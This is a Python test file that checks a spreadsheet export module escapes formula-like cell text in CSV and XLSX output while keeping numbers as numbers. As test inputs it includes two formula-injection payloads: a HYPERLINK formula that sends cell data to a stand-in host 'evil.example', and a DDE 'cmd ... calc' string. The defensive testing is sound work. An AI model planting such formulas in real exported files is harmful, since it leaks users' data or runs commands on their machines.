"""Spreadsheet cells: formula-like text is neutralised, numbers stay numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from lotrinh.core.spreadsheets import SafeCsvWriter, append_xlsx_row, csv_cell, is_formula_like

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_text_starting_like_a_formula_gets_an_apostrophe_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-3", "-1.234,5", "+84", "-", "=", "Tỷ lệ = 90%", -3, Decimal("-7.5"), 2.5, None]
)
def test_numbers_plain_text_and_lone_signs_are_written_as_they_are(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerows([[HOSTILE, -3, "-3"], ["@x", "ok", ""]])
    assert (
        out.getvalue() == '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Xem"")",-3,-3\n\'@x,ok,\n'
    )


def test_xlsx_keeps_formula_like_text_as_quoted_text_and_numbers_as_numbers():
    book = Workbook()
    sheet = book.active
    append_xlsx_row(sheet, ["heading"])
    append_xlsx_row(sheet, [HOSTILE, -3, "-3", "plain"])
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    text, number, number_text, plain = read[2]
    assert (text.value, text.data_type, text.quotePrefix) == (HOSTILE, "s", True)
    assert (number.value, number.data_type) == (-3, "n")
    assert (number_text.value, number_text.quotePrefix) == ("-3", False)
    assert (plain.value, plain.quotePrefix) == ("plain", False)
